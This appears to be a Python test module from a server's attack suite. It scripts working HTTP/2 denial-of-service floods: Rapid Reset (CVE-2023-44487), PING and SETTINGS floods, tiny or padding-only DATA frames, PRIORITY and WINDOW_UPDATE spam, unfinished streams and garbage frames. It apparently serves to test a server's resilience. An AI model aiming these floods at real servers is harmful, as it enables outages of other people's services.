"""Floods of frames: each costs the server something and is worth nothing."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from typing import Final

from tests.attacks import frames
from tests.attacks.frames import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PADDED,
    PING,
    PRIORITY,
    SETTINGS,
    UNKNOWN,
    WINDOW_UPDATE,
    frame,
    rst_stream,
    settings,
    u32,
    window_update,
)
from tests.attacks.session import Chunk, Outcome, Session, Steps, Target, attack

CHUNK_BYTES: Final = 1 << 15
_OTHER_STREAMS: Final = 50_000
"""So many octets of DATA go to one stream, then to the next: no window of a stream is used up."""


def repeated(one: bytes) -> Callable[[Session], Iterator[Chunk]]:
    count = max(1, CHUNK_BYTES // len(one))

    def steps(session: Session) -> Iterator[Chunk]:
        chunk = (one * count, count)
        while True:
            yield chunk

    return steps


def per_stream(make: Callable[[int], bytes], frames_each: int, group: int = 200) -> Steps:
    """`make` gives the frames of one stream; streams are new each time."""

    def steps(session: Session) -> Iterator[Chunk]:
        for first in range(1, 1 << 31, 2 * group):
            yield b"".join(map(make, range(first, first + 2 * group, 2))), group * frames_each

    return steps


def rapid_reset(target: Target, seconds: float, frames_max: int) -> Outcome:
    """HEADERS and RST_STREAM, again and again (CVE-2023-44487)."""
    block = target.block(target.empty)
    steps = per_stream(lambda stream: frame(HEADERS, END_HEADERS, stream, block) + rst_stream(stream), 2)
    return attack(target, seconds, frames_max, steps)


def rapid_reset_with_message(target: Target, seconds: float, frames_max: int) -> Outcome:
    """A whole request and its RST_STREAM: the service has begun when it is cancelled."""
    block = target.block(target.flow)
    body = frames.message(struct.pack(">QQ", 1000, 1 << 10))
    steps = per_stream(
        lambda stream: (
            frame(HEADERS, END_HEADERS, stream, block)
            + frame(DATA, END_STREAM, stream, body)
            + rst_stream(stream)
        ),
        3,
    )
    return attack(target, seconds, frames_max, steps)


def ping(target: Target, seconds: float, frames_max: int) -> Outcome:
    return attack(target, seconds, frames_max, repeated(frame(PING, 0, 0, bytes(8))))


def ping_deaf(target: Target, seconds: float, frames_max: int) -> Outcome:
    """The answers are never read."""
    return attack(target, seconds, frames_max, repeated(frame(PING, 0, 0, bytes(8))), deaf=True)


def settings_empty(target: Target, seconds: float, frames_max: int) -> Outcome:
    return attack(target, seconds, frames_max, repeated(settings()))


def settings_deaf(target: Target, seconds: float, frames_max: int) -> Outcome:
    return attack(target, seconds, frames_max, repeated(settings()), deaf=True)


def settings_full(target: Target, seconds: float, frames_max: int) -> Outcome:
    """2,730 values in each frame; the window goes up and down."""
    values = struct.pack(">HLHL", 4, 65_535, 4, 70_000) * (frames.FRAME_BYTES_MAX // 12)
    return attack(target, seconds, frames_max, repeated(frame(SETTINGS, 0, 0, values)))


def empty_data(target: Target, seconds: float, frames_max: int) -> Outcome:
    """DATA of no octets on one open stream."""
    one = repeated(frame(DATA, 0, 1))

    def steps(session: Session) -> Iterator[Chunk]:
        yield frame(HEADERS, END_HEADERS, 1, target.block(target.swallow)), 1
        yield from one(session)

    return attack(target, seconds, frames_max, steps)


def _small_data(target: Target, payload: bytes, flags: int) -> Steps:
    """DATA of a few octets, within the windows the server gives. The request claims to be long."""
    count = CHUNK_BYTES // (9 + len(payload)) // 4

    def steps(session: Session) -> Iterator[Chunk]:
        block = target.block(target.swallow)
        for stream in range(1, 1 << 31, 2):
            start = frame(HEADERS, END_HEADERS, stream, block)
            yield start + frame(DATA, 0, stream, b"\0" + u32(1 << 20)), 2
            session.window -= 5
            for _ in range(max(1, min(_OTHER_STREAMS, session.stream_window - 5) // (len(payload) * count))):
                while session.window < len(payload) * count:
                    yield 0.01
                    if session.is_over:
                        return
                session.window -= len(payload) * count
                yield frame(DATA, flags, stream, payload) * count, count

    return steps


def one_byte_data(target: Target, seconds: float, frames_max: int) -> Outcome:
    return attack(target, seconds, frames_max, _small_data(target, b"x", 0))


def padding_only(target: Target, seconds: float, frames_max: int) -> Outcome:
    """DATA whose 40 octets are all padding."""
    payload = bytes((39,)) + bytes(39)
    return attack(target, seconds, frames_max, _small_data(target, payload, PADDED))


def priority(target: Target, seconds: float, frames_max: int) -> Outcome:
    return attack(target, seconds, frames_max, repeated(frame(PRIORITY, 0, 1, u32(3) + b"\x10")))


def priority_new_streams(target: Target, seconds: float, frames_max: int) -> Outcome:
    """Each for another idle stream: nothing may be remembered of them."""
    steps = per_stream(lambda stream: frame(PRIORITY, 0, stream, u32(0) + b"\x10"), 1, group=1000)
    return attack(target, seconds, frames_max, steps)


def unknown(target: Target, seconds: float, frames_max: int) -> Outcome:
    """Frames of a type that does not exist."""
    return attack(target, seconds, frames_max, repeated(frame(UNKNOWN, 0xFF, 0)))


def window_updates(target: Target, seconds: float, frames_max: int) -> Outcome:
    """An octet more for the connection, which has nothing to send."""
    return attack(target, seconds, frames_max, repeated(window_update(0, 1)))


def unfinished_streams(target: Target, seconds: float, frames_max: int) -> Outcome:
    """Requests that are never finished, as many as the server takes."""
    block = target.block(target.swallow)
    steps = per_stream(lambda stream: frame(HEADERS, END_HEADERS, stream, block), 1)
    return attack(target, seconds, frames_max, steps)


def many_requests(target: Target, seconds: float, frames_max: int) -> Outcome:
    """Whole requests as fast as they go, replies unread: more than a connection may have at once."""
    block = target.block(target.empty)
    body = frames.message(b"")
    steps = per_stream(
        lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body),
        2,
    )
    return attack(target, seconds, frames_max, steps, deaf=True)


def garbage_frames(target: Target, seconds: float, frames_max: int) -> Outcome:
    """A good hello, then frames of every type with payloads that mean nothing."""
    payload = bytes(range(7, 207, 3))
    made = b"".join(frame(kind, 0xFF, kind % 3, payload) for kind in (UNKNOWN, WINDOW_UPDATE, HEADERS, PING))
    return attack(target, seconds, frames_max, repeated(made))
